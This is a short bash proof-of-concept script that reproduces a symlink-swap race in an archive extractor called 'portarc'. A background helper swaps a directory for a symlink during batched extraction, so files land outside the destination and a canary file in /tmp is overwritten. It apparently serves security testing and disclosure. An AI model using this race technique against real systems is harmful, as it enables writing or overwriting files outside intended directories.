#!/bin/bash
# Scenario A (critical): native batched small files. DEST/top/a is exchanged with a symlink to
# /tmp/race-victim (which has sub/canary_sub); restore.c opens "DEST/top/a/sub" with O_NOFOLLOW,
# which follows the symlink at "a", and creates/renames files in /tmp/race-victim/sub.
set -u; cd /tmp/race-repro
[ -f batch.tar ] || python3 gen.py batch batch.tar 20000
./victim.sh 0; stat -c 'before: %n %a %U %s' /tmp/race-victim/sub/canary_sub
D=/tmp/race-dest; rm -rf $D; mkdir $D
./swap $D/top/a /tmp/race-victim 0 $D/.evil & SP=$!
node ${PORTARC_BIN:?set PORTARC_BIN to the repository's bin/portarc.js} extract -f batch.tar -C $D "$@" > /tmp/race-repro/A.log 2>&1; echo "portarc exit $?"; tail -1 A.log
kill $SP; wait $SP
stat -c 'after:  %n %a %U %s' /tmp/race-victim/sub/canary_sub; cat /tmp/race-victim/sub/canary_sub
echo "files created in /tmp/race-victim/sub: $(ls /tmp/race-victim/sub | grep -c '^f')"
